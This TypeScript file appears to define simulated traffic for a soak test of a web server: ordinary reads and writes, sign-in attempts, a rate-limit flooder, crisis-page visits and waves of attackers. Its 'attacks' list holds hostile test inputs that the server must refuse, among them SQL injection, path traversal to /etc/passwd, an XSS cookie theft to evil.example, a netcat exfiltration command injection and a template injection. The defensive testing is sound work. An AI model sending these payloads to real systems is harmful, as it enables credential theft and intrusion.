import type { Wanted } from "./one-request.ts";

export const kinds = [
  "read",
  "write",
  "hello",
  "slow",
  "attack",
  "flood",
  "sign-in",
  "crisis",
  "crisis contact",
  "ready",
  "metrics",
] as const;
export type Kind = (typeof kinds)[number];

/** How often a kind comes, and what its n-th request is. */
export interface Stream {
  readonly kind: Kind;
  readonly everyMs: number;
  readonly make: (n: number) => Wanted;
}

const clients = 150;
const client = (n: number): string => `127.2.${Math.floor((n % clients) / 50)}.${(n % 50) + 1}`;
/** Each attacker tries ten things, and the next one comes. */
const attacker = (n: number): string => {
  const who = Math.floor(n / 10) % 50_000;
  return `127.3.${Math.floor(who / 250)}.${(who % 250) + 1}`;
};
const flooder = "127.4.0.1";

/** Each must be refused. */
export const attacks: readonly Omit<Wanted, "from">[] = [
  { path: `/notes/1?q=${encodeURIComponent("1' OR '1'='1' UNION SELECT password FROM users --")}` },
  { path: `/hello?file=${encodeURIComponent("../../../../etc/passwd")}` },
  {
    method: "POST",
    path: "/notes/2",
    json: { text: "<script>fetch('//evil.example/'+document.cookie)</script>" },
  },
  { path: `/hello?name=${encodeURIComponent("x; cat /etc/passwd | nc evil.example 80")}` },
  {
    method: "POST",
    path: "/notes/3",
    json: { text: "{{constructor.constructor('return process')().exit()}}" },
  },
  { method: "TRACE", path: "/hello" },
];

export function attack(n: number, from = attacker(n)): Wanted {
  return { ...(attacks[n % attacks.length] ?? { path: "/" }), from };
}

/** Ordinary people, in what they want and how often: about fifty-five requests a second with what follows. */
export function streams(operatorToken: string): readonly Stream[] {
  const headers = { Authorization: `Bearer ${operatorToken}` };
  return [
    { kind: "read", everyMs: 33, make: (n) => ({ path: `/notes/${n % 100}`, from: client(n) }) },
    {
      kind: "write",
      everyMs: 125,
      make: (n) => ({
        method: "POST",
        path: `/notes/${n % 100}`,
        json: { text: `Milk, bread and ${n % 12} eggs, as it's written on the door.` },
        from: client(n * 7),
      }),
    },
    {
      kind: "hello",
      everyMs: 200,
      make: (n) => ({ path: `/hello?name=Ada+${n % 10}`, from: client(n * 11) }),
    },
    { kind: "slow", everyMs: 20_000, make: (n) => ({ path: "/slow", from: client(n) }) },
    { kind: "attack", everyMs: 4_000, make: (n) => attack(n) },
    // One client that asks 90 times a minute where 60 are allowed.
    { kind: "flood", everyMs: 667, make: () => ({ path: "/hello", from: flooder }) },
    {
      kind: "sign-in",
      everyMs: 3_000,
      make: (n) => ({
        method: "POST",
        path: "/login",
        json: { username: `person-${n % 2}`, password: `guess-${n}` },
        from: `127.6.0.${(n % 2) + 1}`,
      }),
    },
    {
      kind: "crisis",
      everyMs: 125,
      // Strangers, the client that is refused for its rate, and attackers that are blocked.
      make: (n) => ({
        path: "/crisis",
        from: [`127.5.0.${(n % 200) + 1}`, flooder, waveLeader, client(n)][n % 4] ?? flooder,
        isFresh: true,
      }),
    },
    {
      kind: "crisis contact",
      everyMs: 45_000,
      make: () => ({
        method: "POST",
        path: "/crisis",
        form: "contact=yes",
        from: "127.5.1.1",
        isFresh: true,
      }),
    },
    { kind: "ready", everyMs: 4_000, make: () => ({ path: "/ready", from: "127.0.0.1" }) },
    { kind: "metrics", everyMs: 5_000, make: () => ({ path: "/metrics", headers, from: "127.0.0.1" }) },
  ];
}

/** Somebody who goes on until his address is blocked. */
export const waveLeader = "127.7.0.1";
export const waveAttacks = 120;
/** Minutes of a soak of thirty at which a wave of attacks comes. */
export const waveMinutes: readonly number[] = [1.4, 8.4, 16.2, 26];

/** One of a wave: a third comes from one address, the rest from many. */
export function waveAttack(n: number): Wanted {
  return attack(n, n % 3 === 0 ? waveLeader : `127.8.${n % 20}.${(n % 7) + 1}`);
}
